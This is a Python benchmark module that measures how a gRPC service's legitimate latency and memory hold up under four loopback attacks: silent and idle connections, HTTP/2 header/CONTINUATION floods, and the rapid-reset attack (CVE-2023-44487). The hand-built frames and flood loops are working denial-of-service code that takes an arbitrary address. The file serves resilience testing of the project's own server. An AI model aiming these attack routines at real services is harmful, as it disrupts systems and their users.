"""Callers who attack the port, and what a legitimate one notices of it.

    python -m benchmarks.hostile [--seconds 5]

A caller with 8 calls in flight is measured alone, beside each attack, and alone again: its p99 beside that of the
same run without the attack, and the server's memory before and after. The attacks come from processes of their own,
on loopback: connections that say nothing, connections that are idle, floods of headers, and streams that are reset
as soon as they are open (CVE-2023-44487). Machines differ and are shared: quote the ratios.
"""

import argparse
import asyncio
import os
import statistics
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import grpc
from marketplace.v1 import user_pb2, user_pb2_grpc

from benchmarks.database import migrated
from benchmarks.process import create_user, service

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
PREFIX = (1 << 7) - 1
IN_FLIGHT = 8
QUIET = 500


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name: str, value: str) -> bytes:
    """Return a header without Huffman coding, which no table keeps (RFC 7541, section 6.2.2)."""
    return b"\x00" + _length(name) + name.encode() + _length(value) + value.encode()


def _length(text: str) -> bytes:
    """Return the length of a text as an integer with a prefix of seven bits (RFC 7541, section 5.1)."""
    size = len(text)
    if size < PREFIX:
        return bytes([size])
    rest, found = size - PREFIX, [PREFIX]
    while rest > PREFIX:
        found.append(rest % (PREFIX + 1) + PREFIX + 1)
        rest //= PREFIX + 1
    return bytes([*found, rest])


CALL = b"".join(
    field(name, value)
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/marketplace.v1.UserService/GetUser"),
        (":authority", "x"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)


async def resets(address: str) -> None:
    """Open a stream and reset it, over and over, on a few connections; a connection that ends is opened anew."""
    host, _, port = address.rpartition(":")

    async def one() -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(host, int(port))
                drained = asyncio.ensure_future(_drain(reader))
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                for stream in range(1, 1 << 30, 2):
                    writer.write(frame(HEADERS, END_HEADERS, stream, CALL))
                    writer.write(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                    await writer.drain()
                    await asyncio.sleep(0.0007)
                    if drained.done():
                        break
                writer.close()
            except OSError:
                await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(2)))


async def silence(address: str) -> None:
    """Keep QUIET connections that say nothing, or half of the preface."""
    await _connections(address, lambda number: PREFACE[: number % 2 * 10])


async def idle(address: str) -> None:
    """Keep QUIET connections that have shaken hands and do nothing."""
    await _connections(address, lambda _: PREFACE + frame(SETTINGS, 0, 0))


async def headers(address: str) -> None:
    """Send calls with 40 kB of headers in ten pieces, one after the other."""
    host, _, port = address.rpartition(":")
    pieces = [field(f"x-{number}", "v" * 4000) for number in range(10)]

    async def one() -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(host, int(port))
                drained = asyncio.ensure_future(_drain(reader))
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                for stream in range(1, 1 << 30, 2):
                    writer.write(frame(HEADERS, END_STREAM, stream, CALL))
                    for piece in pieces[:-1]:
                        writer.write(frame(CONTINUATION, 0, stream, piece))
                    writer.write(frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))
                    await writer.drain()
                    await asyncio.sleep(0.002)
                    if drained.done():
                        break
                writer.close()
            except OSError:
                await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(2)))


async def _connections(address: str, first: Callable[[int], bytes]) -> None:
    host, _, port = address.rpartition(":")

    async def one(number: int) -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(host, int(port))
                writer.write(first(number))
                await _drain(reader)
                writer.close()
            except OSError:
                pass
            await asyncio.sleep(0.5)

    await asyncio.gather(*(one(number) for number in range(QUIET)))


async def _drain(reader: asyncio.StreamReader) -> None:
    try:
        while await reader.read(1 << 16):
            pass
    except OSError:
        return


ATTACKS: dict[str, Callable[[str], Awaitable[None]]] = {
    "silence": silence,
    "idle": idle,
    "headers": headers,
    "resets": resets,
}


async def main() -> None:
    """Measure, and print a row for each attack."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--attack", choices=ATTACKS, help=argparse.SUPPRESS)
    parser.add_argument("--address", help=argparse.SUPPRESS)
    given = parser.parse_args()
    if given.attack:
        # It comes from elsewhere, as a rule: here it shares the cores, and is not to take them from the others.
        os.nice(19)
        await ATTACKS[given.attack](given.address)
        return
    async with AsyncExitStack() as opened:
        url = await opened.enter_async_context(migrated())
        server = await opened.enter_async_context(service(url))
        channel = await opened.enter_async_context(grpc.aio.insecure_channel(server.address))
        stub: Any = user_pb2_grpc.UserServiceStub(channel)
        user = await create_user(stub, "hostile")
        await _legitimate(stub, user.name, 2.0)
        for name in ATTACKS:
            memory = _memory(server.pid)
            alone = await _legitimate(stub, user.name, given.seconds)
            attacker = await asyncio.create_subprocess_exec(
                *(sys.executable, "-m", "benchmarks.hostile", "--attack", name, "--address", server.address)
            )
            try:
                await asyncio.sleep(2.0)
                beside = await _legitimate(stub, user.name, given.seconds)
                during = _memory(server.pid)
            finally:
                attacker.terminate()
                await attacker.wait()
            await asyncio.sleep(2.0)
            after = await _legitimate(stub, user.name, given.seconds)
            print(
                f"{name:8} p99 {alone[0]:.1f} ms alone, {beside[0]:.1f} beside it"
                f" ({beside[0] / alone[0]:.1f} times), {after[0]:.1f} after; failed {beside[1]};"
                f" memory {memory:.0f} MiB before, {during:.0f} during, {_memory(server.pid):.0f} after",
                flush=True,
            )


async def _legitimate(stub: Any, name: str, seconds: float) -> tuple[float, int]:
    """Return the p99 of a legitimate caller in milliseconds, and how many of its calls failed."""
    found: list[float] = []
    failed = 0
    until = time.perf_counter() + seconds

    async def one() -> None:
        nonlocal failed
        while time.perf_counter() < until:
            begun = time.perf_counter()
            try:
                await stub.GetUser(user_pb2.GetUserRequest(name=name), timeout=10)
            except grpc.aio.AioRpcError:
                failed += 1
            found.append(time.perf_counter() - begun)
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(IN_FLIGHT)))
    return statistics.quantiles(found, n=100)[98] * 1000, failed


def _memory(pid: int) -> float:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(status.partition("VmRSS:")[2].split()[0]) / 1024


if __name__ == "__main__":
    asyncio.run(main())
